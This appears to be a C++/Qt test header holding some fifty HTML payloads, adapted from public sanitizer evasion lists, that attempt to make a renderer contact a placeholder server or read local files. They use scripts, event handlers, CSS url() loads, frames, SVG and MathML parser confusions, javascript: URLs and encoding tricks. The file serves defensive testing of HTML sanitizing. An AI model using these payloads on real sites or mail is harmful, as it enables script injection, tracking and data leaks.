#pragma once

// HTML that tries to reach a server or a file: the ideas of the lists that are published for sanitizers
// (OWASP's of filter evasion, Cure53's of HTML 5, DOMPurify's tests), in words of our own.

#include <QList>
#include <QString>

namespace glasspost::test {

struct WayOut
{
    const char *name;
    QString html;
};

/// None of them is a picture of a server in its place, which a person may allow. In the rows "$" is the
/// server,
/// "^" the folder of the files (tests/support/canaries.h), and \u2400 an octet of zero.
inline QList<WayOut> waysOut(const QString &server, const QString &folder = QStringLiteral("/way.out"))
{
    static const std::pair<const char *, const char16_t *> ways[] = {
        {"script",
            u"<script src=http://$/></script><script>fetch('http://$/')</script><script type=module>import "
            u"'http://$/'</script>"},
        {"WebRTC",
            u"<script>const a=new "
            u"RTCPeerConnection({iceServers:[{urls:'stun:$'}]});a.createDataChannel('b');a.createOffer()."
            u"then(c=>a.setLocalDescription(c))</script>"},
        {"sockets",
            u"<script>new WebSocket('ws://$/');new "
            u"EventSource('http://$/');navigator.sendBeacon('http://$/','a')</script>"},
        {"scripts of events",
            u"<body onload=\"fetch('http://$/')\"><img src=x onerror=\"fetch('http://$/')\"><p onclick=fetch("
            u"'http://$/') onmouseover=fetch('http://$/')>a<details ontoggle=fetch('http://$/') open>b</detai"
            u"ls>"},
        {"service worker",
            u"<script>navigator.serviceWorker.register('http://$/')</script><link rel=serviceworker href=http"
            u"://$/><link rel=manifest href=http://$/>"},
        {"style sheet",
            u"<link rel=stylesheet href=http://$/><style>@import 'http://$/'</style><style>@import url(//$);@"
            u"\\69mport url(http://$/)</style>"},
        {"hints",
            u"<link rel=prefetch href=http://$/><meta http-equiv=x-dns-prefetch-control content=on><link "
            u"rel=dns-prefetch href=http://$><link rel=preconnect hre"
            u"f=http://$><link rel=icon href=http://$/><link rel=preload as=image href=http://$/><link "
            u"rel=modulepreloa"
            u"d href=http://$/><link rel=prerender href=http://$/>"},
        {"font", u"<style>@font-face{font-family:x;src:url(http://$/)}p{font-family:x}</style><p>a"},
        {"frames",
            u"<iframe src=http://$/></iframe><iframe srcdoc='<img src=http://$/>'></iframe><frameset><frame s"
            u"rc=http://$/></frameset><portal src=http://$/></portal><fencedframe src=http://$/></fencedframe"
            u">"},
        {"objects",
            u"<object data=http://$/></object><embed src=http://$/><applet code=http://$/></applet><object><p"
            u"aram name=movie value=http://$/></object>"},
        {"forms",
            u"<form action=http://$/><input type=image src=http://$/><button formaction=http://$/>a</button><"
            u"/form><isindex action=http://$/>"},
        {"refresh",
            u"<meta http-equiv=refresh content='0;url=http://$/'><base href=http://$/><meta http-equiv=Link c"
            u"ontent='<http://$/>;rel=stylesheet'>"},
        {"files",
            u"<img src=file://^/a.png><img src=^/a.png><img src=file:^/a.png><a href=file://^/a.html>a</a><a "
            u"href=^/a.html>b</a><p style='background:url(file://^/a.png)'>c<table background=^/a.png>"},
        {"frames of files",
            u"<iframe src=file://^/a.html></iframe><iframe src=^/a.html></iframe><embed "
            u"src=file://^/a.png><object data=^/a.html></object>"},
        {"styles of files",
            u"<link rel=stylesheet href=file://^/a.css><link rel=stylesheet href=^/a.css><style>@import "
            u"'file://^/a.css';@import "
            u"url(^/a.css);@font-face{font-family:x;src:url(file://^/"
            u"a.ttf)}p{font-family:x;background:url(file://^/a.png)}</style><p>a"},
        {"code and media of files",
            u"<script src=file://^/a.js></script><script src=^/a.js></script><video src=file://^/a.png "
            u"poster=^/a.png></video><svg><use href=file://^/a.svg#a /><image href=^/a.png /></svg>"},
        {"a frame of data",
            u"<iframe src='data:text/html,<img src=http://$/>'></iframe><object data='data:text/html,<script "
            u"src=http://$/></script>'></object>"},
        {"drawings",
            u"<svg><use href='http://$/#a'/><image xlink:href=http://$/><feImage href=http://$/></svg><math><"
            u"mi href=http://$/>a</mi><maction xlink:href=http://$/>b</maction></math>"},
        {"a drawing as a picture",
            u"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://$/'/>"
            u"</svg>\">"},
        {"media",
            u"<video poster=http://$/ src=http://$/></video><audio src=http://$/></audio><source src=http://$"
            u"/><track src=http://$/><bgsound src=http://$/>"},
        {"other pictures",
            u"<picture><source srcset=http://$/></picture><img srcset='http://$/ 2x' alt=a><img lowsrc=http:/"
            u"/$/ dynsrc=http://$/ longdesc=http://$/ alt=b><img usemap=http://$/ alt=c>"},
        {"attributes",
            u"<p lang=http://$/ class=http://$/ id=http://$/ title=http://$/>a<table background=javascript:ht"
            u"tp://$/><q cite=http://$/><a ping=http://$/ attributionsrc=http://$/>b</a><html manifest=http:/"
            u"/$/>"},
        {"pictures of a style",
            u"<style>p{list-style-image:url(http://$/);cursor:url(http://$/),auto;border-image:url(http://$/)"
            u";mask:url(http://$/);filter:url(http://$/#a);clip-path:url(http://$/#a);shape-outside:url(http:"
            u"//$/)}p::before{content:url(http://$/)}p::after{content:image-set('http://$/' "
            u"1x)}</style><p>a"},
        {"sets of pictures in a style",
            u"<style>p{background:image-set('http://$/' 1x);background-image:-webkit-image-set(url(http://$/)"
            u" 1x);background:image('http://$/');background:cross-fade(url(http://$/),url(http://$/));backgro"
            u"und:element(#a);background:src('http://$/')}</style><p>a"},
        {"pictures by a variable",
            u"<style>:root{--a:url(http://$/)}p{background:var(--a)}@property --b{syntax:'<url>';inherits:tru"
            u"e;initial-value:url(http://$/)}</style><p style='--c:url(http://$/);background-image:var(--c)'>"
            u"a"},
        {"code of a style",
            u"<style>p{behavior:url(http://$/);-moz-binding:url(http://$/);width:expression(fetch('http://$/'"
            u"))}@namespace url(http://$/);@document url(http://$/){p{color:red}}</style><p>a"},
        {"out of a comment", u"<!--><img src=x onerror=http://$/>--><!--a--!><p data=http://$/>"},
        {"out of a style", u"<style><!--</style><script src=http://$/>--></style>"},
        {"out of a title", u"<title><a title='</title><iframe src=http://$/>'>"},
        {"out of foreign elements",
            u"<math><style><!--</style><iframe src=http://$/>--></math><svg></p><style><a id='</style><object"
            u" data=http://$/>'>"},
        {"out of an alternative",
            u"<img src=x alt=\"'><iframe src=http://$/>\"><img src=x alt='\"><script src=http://$/></script>'"
            u">"},
        {"without scripts",
            u"<noscript><p title=\"</noscript><iframe src=http://$/></iframe>\"></noscript><noscript><link "
            u"rel=stylesheet href=http://$/></noscript><noscript><style></noscript><object "
            u"data=http://$/></object></style>"},
        {"a template",
            u"<template><iframe src=http://$/></iframe></template><div><template shadowrootmode=open><link "
            u"rel=stylesheet href=http://$/><style>@import 'http://$/'</style></template></div>"},
        {"out of plain text",
            u"<xmp><p title=\"</xmp><iframe src=http://$/></iframe>\"></xmp><textarea><p "
            u"title=\"</textarea><iframe src=http://$/></iframe>\"></textarea><noframes><p "
            u"title=\"</noframes><iframe src=http://$/></iframe>\"></noframes><noembed><p "
            u"title=\"</noembed><object data=http://$/></object>\"></noembed>"},
        {"an image by its other name",
            u"<image src=x onerror=\"fetch('http://$/')\"><image srcset='http://$/ 1x'>"},
        {"moving drawings",
            u"<svg><image><animate attributeName=href to=http://$/ begin=0s fill=freeze /><set "
            u"attributeName=href to=http://$/ /></image><script href=http://$/ /><a><set attributeName=href "
            u"to=http://$/ /><text>a</text></a><rect onbegin=fetch('http://$/')></rect></svg>"},
        {"HTML in drawings",
            u"<svg><foreignObject><iframe src=http://$/></iframe></foreignObject><desc><object "
            u"data=http://$/></object></desc><title><iframe src=http://$/></iframe></title><style>@import "
            u"'http://$/';</style></svg>"},
        {"notes in formulas",
            u"<math><semantics><annotation-xml encoding=text/html><iframe "
            u"src=http://$/></iframe></annotation-xml><annotation-xml encoding=application/xhtml+xml><object "
            u"data=http://$/></object></annotation-xml></semantics></math>"},
        {"forms in formulas",
            u"<form><math><mtext></form><form><mglyph><style></math><iframe "
            u"src=http://$/></iframe></style></mglyph></form></mtext></"
            u"math><math><mi><table><mglyph><style><!--</style><iframe title='--><iframe "
            u"src=http://$/></iframe>'></iframe></mglyph></table></mi></math>"},
        {"XML",
            u"<?xml-stylesheet href='http://$/' type='text/css'?><!DOCTYPE a [<!ENTITY b SYSTEM "
            u"'http://$/'>]><p>&b;</p><div xml:base='http://$/'><svg xml:base='http://$/'><use "
            u"href='#a'/></svg></div><![CDATA[<iframe src=http://$/></iframe>]]>"},
        {"other style sheets",
            u"<link rel=import href=http://$/><link rel='alternate stylesheet' title=a href=http://$/><link "
            u"rel=stylesheet media=print href=http://$/><link rel='&#115;tylesheet' "
            u"href='http:&#47;&#47;$&#47;'><link rel=stylesheet type=text/css href=\\\\$\\>"},
        {"octets within",
            u"<ifra\u2400me src=http://$/></ifra\u2400me><\u2400iframe src=http://$/></iframe><iframe "
            u"\u2400src=http://$/></iframe><iframe src=ht\u2400tp://$/></iframe><iframe "
            u"src='ht\ttp:\n//$/'></iframe><iframe src=' \x01 http://$/'></iframe><link rel=style\tsheet "
            u"href=http://$/><a href='java\u2400script:fetch(\"http://$/\")'>a</a>"},
        {"code in addresses",
            u"<iframe src=\"javascript:fetch('http://$/')\"></iframe><iframe "
            u"src=\"&#106;ava&Tab;script&colon;fetch('http://$/')\"></iframe><iframe "
            u"src=\"java&NewLine;script:fetch('http://$/')\"></iframe><object "
            u"data=\"javascript:fetch('http://$/')\"></object><a "
            u"href=\"&#1;javascript:fetch('http://$/')\">a</a><a href=\"vbscript:http://$/\">b</a><img "
            u"src=\"javascript:fetch('http://$/')\">"},
        {"other encodings",
            u"<meta charset=utf-7>+ADw-script src+AD0-http://$/+AD4APA-/script+AD4-<meta "
            u"http-equiv=content-type content='text/html;charset=utf-16'><meta charset=iso-2022-jp><p "
            u"title='\x1b(J\\'><iframe src=http://$/></iframe>"},
        {"attributes twice",
            u"<iframe src=http://$/ src=about:blank></iframe><p style=color:red "
            u"style='background:url(http://$/)'>a<img src=cid:none src=http://$/ alt=b><link href=http://$/ "
            u"href=a rel=stylesheet rel=none>"},
        {"clicks",
            u"<a href='#b' ping=http://$/>a</a><form action=http://$/><input "
            u"name=c><button>d</button></form><button form=e formaction=http://$/>f</button><form id=e "
            u"method=dialog></form><map name=g><area shape=default href='#b' ping=http://$/></map><svg><a "
            u"href='#b' ping=http://$/><text>h</text></a></svg>"},
        {"odd tags",
            u"<\u0130frame src=http://$/><a\x0b"
            u"href=http://$/><img/src=`http://$/`><<iframe src=http://$/></iframe>"},
        {"a plain text to the end",
            u"<listing><iframe src=http://$/></iframe></listing><plaintext><iframe src=http://$/>"},
    };
    QList<WayOut> all;
    for (const auto &[name, html] : ways)
        all.append({name,
            QString::fromUtf16(html)
                .replace(u'$', server)
                .replace(u'^', folder)
                .replace(u'\u2400', QChar(0))});
    // Deeper than any parser keeps count of, before the one that swallows what comes after it.
    constexpr int deep = 700;
    all.insert(all.size() - 1,
        {"deep within",
            QStringLiteral("<b><i>").repeated(deep)
                + QStringLiteral("<iframe src=http://%1/></iframe>").arg(server)
                + QStringLiteral("</i></b>").repeated(deep)});
    return all;
}

} // namespace glasspost::test
